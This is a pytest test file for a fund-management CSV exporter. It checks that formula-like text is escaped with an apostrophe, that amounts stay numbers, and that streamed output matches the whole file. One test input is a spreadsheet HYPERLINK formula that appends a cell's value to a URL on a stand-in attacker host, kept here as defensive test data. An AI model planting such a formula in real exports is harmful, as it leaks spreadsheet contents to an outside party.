"""A CSV field (fundmgr/csv_files.py): text that a spreadsheet would
take for a formula is made inert; amounts stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from fundmgr.csv_files import csv_field, csv_file, csv_stream


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_text_starting_with_a_formula_character_gets_a_leading_apostrophe(prefix):
    text = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Thanks")'

    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("text", ["Kingdom of Norway", "Fondation d'été", "", "1+1"])
def test_ordinary_text_is_written_as_typed(text):
    assert csv_field(text) == text


def test_amounts_are_decimal_text_even_when_negative():
    assert [csv_field(Decimal("-1234.50")), csv_field(2019)] == ["-1234.50", "2019"]


def test_every_field_is_quoted_and_reads_back_as_written():
    content = csv_file(["Donor", "Amount"], [['=A1, "quoted"', Decimal("10.00")]])

    text = content.decode("utf-8-sig")
    assert text.splitlines()[1] == '"\'=A1, ""quoted""","10.00"'
    assert list(csv.reader(io.StringIO(text)))[1] == ['\'=A1, "quoted"', "10.00"]


def test_a_streamed_file_comes_in_blocks_and_equals_the_file_built_at_once():
    rows = [[f"=row {n}", Decimal(n)] for n in range(2000)]

    blocks = list(csv_stream(["Who", "Amount"], iter(rows), block=4096))

    assert len(blocks) > 5 and all(len(block) < 4096 + 200 for block in blocks)
    assert b"".join(blocks) == csv_file(["Who", "Amount"], rows)
    assert b"".join(blocks).decode("utf-8-sig").splitlines()[1] == '"\'=row 0","0"'
